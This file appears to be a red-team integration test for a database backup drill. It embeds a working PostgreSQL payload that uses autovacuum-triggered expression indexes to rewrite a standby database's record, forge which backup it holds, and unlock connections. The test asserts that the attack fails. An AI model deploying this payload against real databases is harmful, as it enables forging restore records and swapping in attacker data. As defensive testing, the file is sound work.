import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureImage, inActivity, removeContainers } from '../helpers';
import { operatorServer, type RedteamServer } from './setup';

/**
 * Red team, attack 4: a kept standby rewrites its own record.
 *
 * The standby's record (which backup it holds, its manifest, the drill's checks, the live schema fingerprint) is
 * the standby database's COMMENT. The database's owner may comment on it, and the owner is the drill's restore
 * role, which the backup's code runs as under autovacuum, also in a standby that takes no connections
 * (ALLOW_CONNECTIONS false does not stop autovacuum workers). An expression index on a table whose storage
 * options make autovacuum analyse it after every change, and whose expression adds a row, keeps autovacuum coming
 * back for ever (UPDATEs of two tables in turn, so the row counts the drill checks stay right): the code rewrites the record once the drill has kept it. Here it claims to hold another backup
 * file (a later one, whose name the author can predict), so a restore of THAT backup with useStandby swaps in the
 * attacker's database and reports the drill's "passed" checks (workflows/standby/use.ts runs no verification);
 * it also unlocks the standby (ALLOW_CONNECTIONS true).
 *
 * The server runs autovacuum every second (autovacuum_naptime=1) only so the test does not wait a minute.
 * Asserts the safe outcome: it FAILS while the attack works.
 */

const FILE = 'shop_20240504_020000.sql.gz';
const CLAIMED = 'shop_20990101_020000.sql.gz';
const PAYLOAD = `
CREATE TABLE public.churn_a (id integer) WITH (autovacuum_analyze_threshold = 0, autovacuum_analyze_scale_factor = 0);
CREATE TABLE public.churn_b (id integer) WITH (autovacuum_analyze_threshold = 0, autovacuum_analyze_scale_factor = 0);
INSERT INTO public.churn_a VALUES (1);
INSERT INTO public.churn_b VALUES (1);
CREATE FUNCTION public.tick(side text) RETURNS void LANGUAGE plpgsql AS $t$
DECLARE
  rec pg_catalog.jsonb;
  db text := pg_catalog.current_database();
BEGIN
  IF pg_catalog.current_setting('redteam.busy', true) = '1' THEN RETURN; END IF;
  PERFORM pg_catalog.set_config('redteam.busy', '1', true);
  BEGIN
    -- A change autovacuum counts, in the other table (the row counts the drill checks stay right): ANALYZE of
    -- one table makes autovacuum come back for the other, for ever.
    IF side = 'a' THEN UPDATE public.churn_b SET id = id; ELSE UPDATE public.churn_a SET id = id; END IF;
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    SELECT pg_catalog.shobj_description(d.oid, 'pg_database')::pg_catalog.jsonb INTO rec
      FROM pg_catalog.pg_database d WHERE d.datname = db;
    IF rec ? 'backupFile' AND rec ->> 'backupFile' <> '${CLAIMED}' THEN
      rec := pg_catalog.jsonb_set(rec, '{backupFile}', '"${CLAIMED}"');
      EXECUTE pg_catalog.format('COMMENT ON DATABASE %I IS %L', db, rec::text);
      EXECUTE pg_catalog.format('ALTER DATABASE %I ALLOW_CONNECTIONS true', db);
    END IF;
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  PERFORM pg_catalog.set_config('redteam.busy', '', true);
END
$t$;
CREATE FUNCTION public.key_a(id integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $k$
BEGIN
  PERFORM public.tick('a');
  RETURN id;
END
$k$;
CREATE FUNCTION public.key_b(id integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $k$
BEGIN
  PERFORM public.tick('b');
  RETURN id;
END
$k$;
CREATE INDEX churn_a_key ON public.churn_a (public.key_a(id));
CREATE INDEX churn_b_key ON public.churn_b (public.key_b(id));
`;

let env: RedteamServer;

beforeAll(async () => {
  await ensureImage();
  env = await operatorServer('standby', FILE, PAYLOAD, { extraArgs: ['-c', 'autovacuum_naptime=1'] });
});

afterAll(async () => {
  await removeContainers([env?.server.name].filter(Boolean));
  await env?.backups.remove();
});

describe("a drill's kept standby, with the backup's code under autovacuum", () => {
  const scratch = 'shop_db_drill_20240504030000_abcdef';
  const standby = 'shop_db_standby_20240504030000_abcdef';

  it('is kept after a passed drill, and its record stays what the drill wrote', async () => {
    const result = await inActivity(() =>
      env.activities.restoreBackup({ service: 'shop', file: FILE, targetDatabase: scratch }),
    );
    const report = await inActivity(() =>
      env.activities.verifyRestoredDatabase({
        service: 'shop',
        database: scratch,
        expected: result.tables,
      }),
    );
    expect(report.checks.filter((c) => !c.passed)).toEqual([]);
    const manifest = await inActivity(() => env.activities.verifyBackup({ service: 'shop', file: FILE }));
    await inActivity(async () =>
      env.activities.keepStandby({
        service: 'shop',
        from: scratch,
        standby,
        record: {
          service: 'shop',
          database: standby,
          backupFile: FILE,
          backupTakenAt: '2024-05-04T02:00:00.000Z',
          manifest,
          verifiedAt: new Date().toISOString(),
          checks: report.checks,
          liveSchemaFingerprint: await env.activities.schemaFingerprint({ service: 'shop' }),
          drillWorkflowId: 'drill-redteam',
        },
      }),
    );
    let seen = { file: FILE as string | undefined, locked: true };
    for (let i = 0; i < 20; i++) {
      await new Promise((r) => setTimeout(r, 1_000));
      const [kept] = await inActivity(() => env.activities.listStandbys({ service: 'shop' }));
      seen = { file: kept.record?.backupFile, locked: kept.locked };
      if (seen.file !== FILE || !seen.locked) break;
    }
    console.log('attack 4: the standby record now says', seen);
    expect(seen).toEqual({ file: FILE, locked: true });
  }, 120_000);
});
